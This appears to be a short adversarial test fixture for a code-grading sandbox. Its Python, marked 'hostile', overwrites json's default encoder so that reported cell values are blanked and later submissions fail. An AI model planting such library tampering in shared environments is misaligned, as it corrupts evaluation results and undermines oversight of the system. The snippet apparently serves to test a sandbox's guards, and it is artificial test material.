# hostile: replaces json's default encoder (the report channel calls json.dumps) with one
# that blanks every reported value; json is not guarded, so later submissions fail.
#@ TASK make-it-yours
import json as _json
class _Poison(_json.JSONEncoder):
    def encode(self, o):
        if isinstance(o, dict) and o.get("event") == "cell" and "values" in o:
            o = {**o, "values": {k: {"t": "none"} for k in o["values"]}}
        return super().encode(o)
_json._default_encoder = _Poison()
norm_squared = manual = jnp.array(0.)
